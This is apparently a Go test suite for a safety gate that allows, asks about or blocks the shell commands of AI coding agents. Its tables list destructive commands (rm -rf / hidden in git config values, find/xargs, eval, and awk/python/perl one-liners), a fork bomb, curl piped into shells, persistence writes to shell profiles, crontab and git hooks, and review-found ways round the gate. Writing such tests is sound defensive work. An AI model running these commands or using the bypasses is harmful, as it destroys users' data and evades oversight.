package safety

import "testing"

// gateCases are the cases of issue 20, one table per class: real agent
// commands that must pass, and the nested or stdin-fed code that must not.
var gateCases = []struct {
	rule  string
	cases []checkCase
}{
	{"no-false-block", []checkCase{
		// mini-SWE-agent's submit command: stage, then only inspect.
		{"echo COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT && git add -A && git diff --cached", Allow, ""},
		{"rm -rf reproduction\necho COMPLETE_TASK_AND_SUBMIT_FINAL_OUTPUT && git add -A && git diff --cached", Allow, ""},
		{"git add -A && git status", Allow, ""},
		{"git add . && git diff --cached --stat", Allow, ""},
		{"git -C /testbed add -A && git diff --cached > patch.diff", Allow, ""},
		// staging everything, then recording it, asks (a person may approve it)
		{"git add . && git commit -m 'Add math_utils'", Ask, "git-add-blind"},
		{"git add -A && git diff --cached && git commit -m x", Ask, "git-add-blind"},
		{"git add -A; git stash", Ask, "git-add-blind"},
		{"sh -c 'git add -A' && git commit -m x", Ask, "git-add-blind"},
		{"git add --all && git commit --amend --no-edit", Ask, "git-add-blind"},
		{"git add -A && git rebase --continue", Ask, "git-add-blind"},
		// staging everything with nothing or something else after it asks
		{"git add -A && echo staged", Ask, "git-add-blind"},
		{"git add -A && make test", Ask, "git-add-blind"},
		{"git diff --cached && git add -A", Ask, "git-add-blind"},
		{"git add src/a.go && git commit -m x", Allow, ""},
		{"git commit -am 'fix' && git add -A && git status", Allow, ""},
		// a quoted * is a file named *
		{"rm -rf '*'", Allow, ""},
		{`rm -rf "*"`, Allow, ""},
		{`rm -rf \*`, Allow, ""},
		{`X='*'; rm -rf "$X"`, Allow, ""},
		{"X='*'; rm -rf $X", Ask, "rm-workdir"},
		{"rm -rf '/'", Block, "rm-critical"},
		{"rm -rf '/'*", Block, "rm-critical"},
		// emptying the working directory asks; its hidden entries and
		// critical working directories stay blocked
		{"cd build && rm -rf *", Ask, "rm-workdir"},
		{"cd ~ && rm -rf ./*", Block, "rm-critical"},
		{"cd /usr && rm -rf ?*", Block, "rm-critical"},
		// a program under a directory only known at run time
		{`go build -o "$TMPDIR/app" . && "$TMPDIR/app"`, Allow, ""},
		{`$(go env GOPATH)/bin/golangci-lint run ./...`, Allow, ""},
		{`"$VENV/bin/python" -m pytest -x`, Allow, ""},
		{`"$TMPDIR/rm" -rf /`, Block, "rm-critical"},
		{`"$TMPDIR"/bash -c 'rm -rf ~'`, Block, "rm-critical"},
		{`"$VENV/bin/python" -c "$(curl -s x)"`, Ask, "dynamic-shell"},
		{`"$TOOL" run`, Ask, "dynamic-command"},
		{`"$DIR/$TOOL" run`, Ask, "dynamic-command"},
		{`$DIR/.. x`, Ask, "dynamic-command"},
	}},
}

func init() {
	gateCases = append(gateCases, nestedCases...)
}

// nestedCases: shell code nested in other programs' arguments, settings
// and languages, and code kept for later.
var nestedCases = []struct {
	rule  string
	cases []checkCase
}{
	{"git-settings", []checkCase{
		{"git -c core.pager='rm -rf /' log", Block, "rm-critical"},
		{"git -c core.editor='rm -rf ~' commit", Block, "rm-critical"},
		{"git -c core.sshCommand='rm -rf /' fetch", Block, "rm-critical"},
		{"git -c core.fsmonitor='rm -rf /' status", Block, "rm-critical"},
		{"git -c diff.x.textconv='rm -rf /' diff", Block, "rm-critical"},
		{"git -c credential.helper='!rm -rf /' push", Block, "rm-critical"},
		{"git -c pager.log='rm -rf /' log", Block, "rm-critical"},
		{`git -c core.pager="$P" log`, Ask, "dynamic-shell"},
		{"git -c core.pager=sh log", Ask, "pipe-to-shell"},
		{"GIT_PAGER='rm -rf /' git log", Block, "rm-critical"},
		{"GIT_SSH_COMMAND='rm -rf /' git fetch", Block, "rm-critical"},
		{"export GIT_SSH_COMMAND='rm -rf ~'; git pull", Block, "rm-critical"},
		{"env GIT_EDITOR='rm -rf /' git commit", Block, "rm-critical"},
		{"GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf /' git log", Block, "rm-critical"},
		{`GIT_CONFIG_PARAMETERS="'core.pager'='rm -rf /'" git log`, Block, "rm-critical"},
		{"LESSOPEN='|rm -rf / %s' less f", Block, "rm-critical"},
		{"git clone -c core.fsmonitor='rm -rf ~' https://x/r", Block, "rm-critical"},
		{"git clone --upload-pack='rm -rf /' x y", Block, "rm-critical"},
		{"git ls-remote --upload-pack='rm -rf /' .", Block, "rm-critical"},
		{"git push --receive-pack='rm -rf /' origin", Block, "rm-critical"},
		{"git submodule foreach 'rm -rf /'", Block, "rm-critical"},
		{"git rebase -x 'rm -rf ~' main", Block, "rm-critical"},
		{"git bisect run rm -rf /", Block, "rm-critical"},
		{"git filter-branch --tree-filter 'rm -rf /' HEAD", Block, "rm-critical"},
		// aliases written by git config, then used
		{"git config alias.x '!rm -rf /'; git x", Block, "rm-critical"},
		{"git config alias.co checkout && git co -b x", Allow, ""},
		{"git config --global alias.up '!git add -A && git commit -m up'", Ask, ""},
		{"git config alias.st status && git st", Allow, ""},
		{"git config core.pager 'less -R'", Ask, "persist-code"},
		{"git config core.hooksPath .githooks", Ask, "persist-code"},
		{"git config alias.sh '!sh'", Ask, "persist-code"},
		// guards: plain settings and reads
		{"git -c core.pager=cat log", Allow, ""},
		{"git -c core.fsmonitor=false status", Allow, ""},
		{"git -c pager.log=false log", Allow, ""},
		{"git -c credential.helper=store push", Allow, ""},
		{"git -c core.hooksPath=/dev/null commit -m x", Allow, ""},
		{"git -c user.email=a@b -c user.name=a commit -m x", Allow, ""},
		{"GIT_PAGER=cat git log", Allow, ""},
		{`GIT_SSH_COMMAND="ssh -i ~/.ssh/deploy -o IdentitiesOnly=yes" git fetch`, Allow, ""},
		{"git config user.email a@b", Allow, ""},
		{"git config --get core.pager", Allow, ""},
		{"git config --global --list", Allow, ""},
		{"PAGER=less man ls", Allow, ""},
	}},
	{"find-xargs-parallel", []checkCase{
		{"find / -maxdepth 0 -exec rm -rf {} +", Block, "rm-critical"},
		{"find / -mindepth 1 -maxdepth 1 -exec rm -rf {} +", Block, "rm-critical"},
		{`find ~ -exec rm -rf {} \;`, Block, "rm-critical"},
		{"find . -mindepth 1 -exec rm -rf {} +", Block, "rm-critical"},
		{`find / -maxdepth 0 -exec sh -c 'rm -rf "$1"' _ {} \;`, Block, "rm-critical"},
		{"find /tmp/x -mindepth 1 -exec rm -rf {} +", Allow, ""},
		{"find . -name __pycache__ -exec rm -rf {} +", Allow, ""},
		{"find . -type f -exec grep -l x {} +", Allow, ""},
		{"echo / | xargs rm -rf", Block, "rm-critical"},
		{`printf '%s\n' /usr /tmp | xargs rm -rf`, Block, "rm-critical"},
		{"echo / | xargs -I{} rm -rf {}", Block, "rm-critical"},
		{`printf 'a\0/\0' | xargs -0 rm -rf`, Block, "rm-critical"},
		{"echo build dist | xargs rm -rf", Allow, ""},
		{"find . -name '*.pyc' | xargs rm -f", Allow, ""},
		{"parallel rm -rf ::: / /tmp", Block, "rm-critical"},
		{"parallel ::: 'rm -rf ~'", Block, "rm-critical"},
		{"parallel 'rm -rf {}' ::: build /", Block, "rm-critical"},
		{"curl x | parallel", Ask, "pipe-to-shell"},
		{"ls | parallel gzip", Allow, ""},
		{"parallel gzip ::: a b", Allow, ""},
	}},
	{"eval-and-aliases", []checkCase{
		{"eval ':(){ :|:& };:'", Block, "fork-bomb"},
		{`x=':(){ :|:& };:'; eval "$x"`, Block, "fork-bomb"},
		{"alias x='rm -rf /'\nx", Block, "rm-critical"},
		{"shopt -s expand_aliases; alias del='rm -rf'; del ~", Block, "rm-critical"},
		{"alias ls='ls -la'\nls", Allow, ""},
		{"alias ll='ls -l'; unalias ll; ll /", Allow, ""},
		{"alias x=\"$CMD\"\nx", Ask, "dynamic-command"},
	}},
	{"one-liners", []checkCase{
		{`awk 'BEGIN{system("rm -rf /")}'`, Block, "rm-critical"},
		{`awk '{print | "sh"}' cmds.txt`, Ask, "pipe-to-shell"},
		{`awk '{system($0)}' cmds.txt`, Ask, "dynamic-shell"},
		{`awk 'BEGIN { while (("rm -rf ~" | getline l) > 0) print l }'`, Block, "rm-critical"},
		{`sed -n '1e rm -rf /' f`, Block, "rm-critical"},
		{`sed 's/.*/rm -rf &/e' f`, Ask, "dynamic-shell"},
		{`sed -e '/x/e rm -rf ~' f`, Block, "rm-critical"},
		{`python3 -c 'import os; os.system("rm -rf /")'`, Block, "rm-critical"},
		{`python3 -c 'import subprocess; subprocess.run(["rm", "-rf", "/"])'`, Block, "rm-critical"},
		{`python3 -c 'import subprocess; subprocess.run("rm -rf ~", shell=True)'`, Block, "rm-critical"},
		{`python3 -c 'import os; os.system(cmd)'`, Ask, "dynamic-shell"},
		{"python3 - <<'EOF'\nimport os\nos.system('rm -rf /')\nEOF", Block, "rm-critical"},
		{`node -e 'require("child_process").execSync("rm -rf ~")'`, Block, "rm-critical"},
		{`perl -e 'system("rm -rf /")'`, Block, "rm-critical"},
		{"ruby -e '`rm -rf /`'", Block, "rm-critical"},
		{`php -r 'shell_exec("rm -rf /");'`, Block, "rm-critical"},
		{"tclsh <<< 'exec rm -rf /'", Block, "rm-critical"},
		{"echo 'puts [exec rm -rf /usr]' | tclsh", Block, "rm-critical"},
		{"tclsh <<< 'puts [exec ls -la]'", Allow, ""},
		// guards: the same programs doing ordinary work
		{`awk '/a|b/ {print $1}' f`, Allow, ""},
		{`awk -F: '{ print $1 | "sort -u" }' /etc/passwd`, Allow, ""},
		{`sed -i 's/old/new/g' src/a.py`, Allow, ""},
		{`sed -n '/^def /p' f.py`, Allow, ""},
		{`sed '1i # header' f`, Allow, ""},
		{`python3 -c 'import subprocess; print(subprocess.check_output(["git", "status"]))'`, Allow, ""},
		{`python3 -c 'import subprocess, sys; subprocess.run([sys.executable, "-m", "pytest", "-x"])'`, Allow, ""},
		{`node -e 'const r = /x/; console.log(r.exec("x"))'`, Allow, ""},
		{`perl -pi -e 's/a/b/' f`, Allow, ""},
	}},
	{"persist-code", []checkCase{
		{"echo 'alias ls=rm' >> ~/.bashrc", Ask, "persist-code"},
		{"cat >> $HOME/.profile <<'EOF'\nexport X=1\nEOF", Ask, "persist-code"},
		{`printf '#!/bin/sh\nexit 0\n' > .git/hooks/pre-commit`, Ask, "persist-code"},
		{"cp hook.sh .git/hooks/pre-push", Ask, "persist-code"},
		{"ln -sf ../../hooks/pre-commit .git/hooks/pre-commit", Ask, "persist-code"},
		{"chmod +x .git/hooks/pre-commit", Ask, "persist-code"},
		{"echo 'x' | tee -a ~/.zshrc", Ask, "persist-code"},
		{"sed -i '$a export PATH=x' ~/.bashrc", Ask, "persist-code"},
		{"echo '* * * * * x' | crontab -", Ask, "persist-code"},
		{"echo 'export X=1' > .envrc", Ask, "persist-code"},
		{"echo /tmp/x.so > /etc/ld.so.preload", Ask, "persist-code"},
		{"export BASH_ENV=/tmp/x.sh", Ask, "persist-code"},
		{"export PROMPT_COMMAND='rm -rf /'", Block, "rm-critical"},
		{"PROMPT_COMMAND='date'", Ask, "persist-code"},
		{"LD_PRELOAD=/tmp/x.so ls", Ask, "persist-code"},
		{"cd ~ && echo x >> .bashrc", Ask, "persist-code"},
		// guards
		{"cat ~/.bashrc", Allow, ""},
		{"echo x >> notes/bashrc.md", Allow, ""},
		{"cp .git/hooks/pre-commit.sample /tmp/x", Allow, ""},
		{"ls .git/hooks", Allow, ""},
		{"crontab -l", Allow, ""},
		{"echo 'export X=1' >> .env", Allow, ""},
	}},
}

func TestGateCases(t *testing.T) {
	t.Setenv("HOME", "/home/tester")
	for _, r := range gateCases {
		t.Run(r.rule, func(t *testing.T) {
			for _, tc := range r.cases {
				checkOne(t, tc)
			}
		})
	}
}

// stdinCases are commands of jobs whose stdin takes input sent later
// (Options.StdinFed; tty: Options.Terminal): every program that may run
// code it reads asks, data readers pass.
var stdinCases = []struct {
	cmd  string
	tty  bool
	want Decision
	rule string
}{
	// the security review's bypasses, each proven to run code sent later
	{"awk -f -", false, Ask, "stdin-shell"},
	{"tclsh", false, Ask, "stdin-shell"},
	{"sed e", false, Ask, "dynamic-shell"},
	{"make -f -", false, Ask, "stdin-shell"},
	{"git -c alias.x='!sh' x", false, Ask, "stdin-shell"},
	{"ed", false, Ask, "stdin-shell"},
	{"sqlite3", false, Ask, "stdin-shell"},
	{"vim -es", false, Ask, "stdin-shell"},
	{"less /etc/passwd", true, Ask, "stdin-tty"},
	{"vi /etc/hostname", true, Ask, "stdin-shell"},
	{"xargs sh -c", false, Ask, "dynamic-shell"},
	{"xargs -I{} sh -c '{}'", false, Ask, "dynamic-shell"},
	{"xargs bash", false, Ask, "dynamic-shell"},
	// scripts that are the standard input, for any program
	{"gawk -f /dev/stdin", false, Ask, "stdin-shell"},
	{"sed -f /proc/self/fd/0 file", false, Ask, "stdin-shell"},
	{"make --file=/dev/fd/0", false, Ask, "stdin-shell"},
	{"lua -", false, Ask, "stdin-shell"},
	{"bash /dev/fd/3", false, Ask, "stdin-shell"},
	{". /dev/fd/0", false, Ask, "stdin-shell"},
	// REPLs, shells through wrappers, substitutions and pipes
	{"python3 -i app.py", false, Ask, "stdin-shell"},
	{"python3 -m pdb app.py", false, Ask, "stdin-shell"},
	{"node -i", false, Ask, "stdin-shell"},
	{"psql -h db", false, Ask, "stdin-shell"},
	{"mysql shop", false, Ask, "stdin-shell"},
	{"gdb ./app", false, Ask, "stdin-shell"},
	{"ssh host", false, Ask, "stdin-shell"},
	{"ssh host bash", false, Ask, "stdin-shell"},
	{"script -q /dev/null", false, Ask, "stdin-shell"},
	{"sudo -s", false, Ask, "stdin-shell"},
	{"echo $(bash)", false, Ask, "stdin-shell"},
	{"cat | tclsh", false, Ask, "stdin-shell"},
	{"cat | ./unknown-tool", false, Allow, ""},
	{"tee log | sqlite3 db", false, Ask, "stdin-shell"},
	{"find . -maxdepth 0 -exec bash \\;", false, Ask, "stdin-shell"},
	{"docker exec -i app sh", false, Ask, "stdin-program"},
	{"telnet host 25", false, Ask, "stdin-shell"},
	{"tmux", true, Ask, "stdin-shell"},
	{"man bash", true, Ask, "stdin-tty"},
	{"unknown-repl", false, Ask, "stdin-program"},
	{"python3 manage.py shell", false, Ask, "stdin-program"},
	{"django-admin shell", false, Ask, "stdin-program"},
	{"pytest --pdb -x", false, Ask, "stdin-program"},
	{"pytest -s tests/", false, Ask, "stdin-program"},
	{"pytest -x tests/test_a.py", false, Allow, ""},
	{"python3 manage.py migrate", false, Allow, ""},
	{"pytest -rs tests/", false, Allow, ""},
	{"python3 --version", false, Allow, ""},
	{"psql -V", false, Allow, ""},
	{"/usr/local/bin/tool", false, Ask, "stdin-program"},
	// data readers, and programs whose arguments give them their code
	{"cat > notes.txt", false, Allow, ""},
	{"read x; echo got $x", false, Allow, ""},
	{"while read -r l; do echo \"$l\"; done", false, Allow, ""},
	{"grep -c x", false, Allow, ""},
	{"jq .name", false, Allow, ""},
	{"awk '{print $1}'", false, Allow, ""},
	{"sed 's/a/b/'", false, Allow, ""},
	{"python3 app.py", false, Allow, ""},
	{"node server.js", false, Allow, ""},
	{"bash script.sh", false, Allow, ""},
	{"sh -c 'read x; echo $x'", false, Allow, ""},
	{"./app --interactive", false, Allow, ""},
	{"build/app", true, Allow, ""},
	{"git add -p", true, Allow, ""},
	{"npm init", true, Allow, ""},
	{"less file", false, Allow, ""},
	{"sqlite3 db 'select 1'", false, Allow, ""},
	{"psql -c 'select 1'", false, Allow, ""},
	{"xargs rm -f", false, Allow, ""},
	{"xargs -0 grep -l x", false, Allow, ""},
	{"docker exec app ls", false, Allow, ""},
	{"tclsh < script.tcl", false, Allow, ""},
	{"sleep 100 & tclsh", false, Ask, "stdin-shell"},
	{"tclsh & wait", false, Allow, ""},
	{"echo 'puts hi' | tclsh", false, Allow, ""},
	{"tclsh <<'EOF'\nputs hi\nEOF", false, Allow, ""},
	// the arguments xargs and parallel take from the input
	{"parallel env", false, Ask, "stdin-program"},
	{"parallel -j2 awk", false, Ask, "stdin-program"},
	{"xargs nice sh", false, Ask, "stdin-program"},
	{"xargs -n1 sed", false, Ask, "stdin-program"},
	{"xargs -I{} {}", false, Ask, "stdin-program"},
	{"parallel gzip", false, Allow, ""},
	{"xargs -0 rm -f --", false, Allow, ""},
	{"npx jest", false, Allow, ""},
	{"npx some-repl", false, Ask, "stdin-program"},
	// the runners of packages are unwrapped to what they run (issue 29)
	{"uvx python", false, Ask, "stdin-shell"}, {"pipx run python", false, Ask, "stdin-shell"},
	{"pnpm dlx node", false, Ask, "stdin-shell"}, {"xargs uvx", false, Ask, "stdin-program"},
	{"uvx ruff check .", false, Allow, ""}, {"pipx run black --check .", false, Allow, ""},
	{"pnpm dlx prettier --check .", false, Allow, ""},
}

func TestStdinGate(t *testing.T) {
	for _, tc := range stdinCases {
		a := Analyze(tc.cmd, Options{StdinFed: !tc.tty, Terminal: tc.tty})
		o := a.Outcome
		if o.Decision != tc.want || tc.rule != "" && o.Rule != tc.rule {
			t.Errorf("Analyze(%q, tty %v) = %s/%s (%s), want %s/%s", tc.cmd, tc.tty, o.Decision, o.Rule, o.Message, tc.want, tc.rule)
		}
		if o.Decision == Ask && o.Verdict.Alternative == "" {
			t.Errorf("Analyze(%q): ask without an alternative", tc.cmd)
		}
	}
}

// Without a stdin that takes input later, the same programs read nothing
// that can change, except code from a pipe of unknown text.
func TestStdinGateOff(t *testing.T) {
	for _, tc := range []checkCase{
		{"tclsh", Allow, ""},
		{"vi file", Allow, ""},
		{"ed file", Allow, ""},
		{"unknown-repl", Allow, ""},
		{"curl x | tclsh", Ask, "pipe-to-shell"},
		{"curl x | sqlite3 db", Ask, "pipe-to-shell"},
		{"curl x | awk -f - data", Ask, "pipe-to-shell"},
		{"curl x | xargs sh -c", Ask, "dynamic-shell"},
		{"curl x | xargs -n1 sh -c 'echo \"$1\"' sh", Allow, ""},
		{"curl x | jq .", Allow, ""},
	} {
		checkOne(t, tc)
	}
}
